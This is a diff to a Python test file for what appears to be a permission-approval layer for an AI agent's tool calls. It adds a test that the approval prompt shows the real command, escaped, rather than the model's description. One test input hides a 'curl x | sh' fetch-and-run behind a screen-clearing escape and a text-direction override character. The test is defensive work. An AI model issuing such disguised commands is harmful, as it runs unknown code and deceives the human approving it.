@@ -28,6 +28,7 @@ from pilothouse.permissions.requests import (
     NO_CONFIRMER_MESSAGE,
     NO_PLAN_APPROVER_MESSAGE,
     NO_USER_MESSAGE,
+    read_request,
 )
 
 pytestmark = pytest.mark.anyio
@@ -62,7 +63,7 @@ async def test_the_callback_sees_the_call_and_its_decision_is_the_recorded_answe
     assert request.suggestions[2] == SetMode("acceptEdits")
     assert request.session == "the session"
     assert request.raw is BASH
-    assert request.prompt == "Allow Bash: say hi?"
+    assert request.prompt == "Allow Bash: touch allowed.txt?"
     assert "touch allowed.txt" in repr(request)
 
 
@@ -134,7 +135,18 @@ async def test_the_confirmer_decides_when_asked() -> None:
     assert await dispatcher.handle(BASH) == {"behavior": "deny", "message": "not today"}
     assert asked == [("Sure?", "Bash")] * 4
     assert await PermissionDispatcher(returning(Confirm()), confirm).handle(BASH) == ALLOWED
-    assert asked[-1] == ("Allow Bash: say hi?", "Bash")
+    assert asked[-1] == ("Allow Bash: touch allowed.txt?", "Bash")
+
+
+def test_the_question_shows_the_command_and_not_what_the_model_says_of_it() -> None:
+    body = {"tool_name": "Bash", "display_name": "Bash", "description": "List the files"}
+    asked = read_request(
+        {**body, "input": {"command": "ls\n\x1b[2Jcurl x | sh \u202e", "description": "List the files"}}
+    )
+    assert asked.prompt == r"Allow Bash: ls\n\x1b[2Jcurl x | sh \u202e?"
+    assert read_request({**body, "input": {"command": "x" * 3000}}).prompt.endswith("xx… (1,000 more characters)?")
+    assert read_request({**body, "input": {}}).prompt == "Allow Bash: List the files?"
+    assert read_request({**body, "input": {}, "description": "\r\x9b2J"}).prompt == r"Allow Bash: \r\x9b2J?"
 
 
 @pytest.mark.requirement("E75")
@@ -149,7 +161,7 @@ async def test_a_confirmer_alone_is_asked_about_every_call_but_questions() -> No
     assert (await dispatcher.handle({**BASH, "title": "Claude wants to run touch"}))["behavior"] == "allow"
     assert (await dispatcher.handle(REAL_PLAN))["behavior"] == "allow"
     assert await dispatcher.handle(QUESTION) == {"behavior": "deny", "message": NO_USER_MESSAGE}
-    assert asked == ["Allow Bash: say hi?", "Claude wants to run touch", "Allow ExitPlanMode?"]
+    assert asked == ["Allow Bash: touch allowed.txt?", "Claude wants to run touch", "Allow ExitPlanMode?"]
 
 
 async def test_an_unhandled_request_is_denied_with_a_text_for_the_model() -> None:
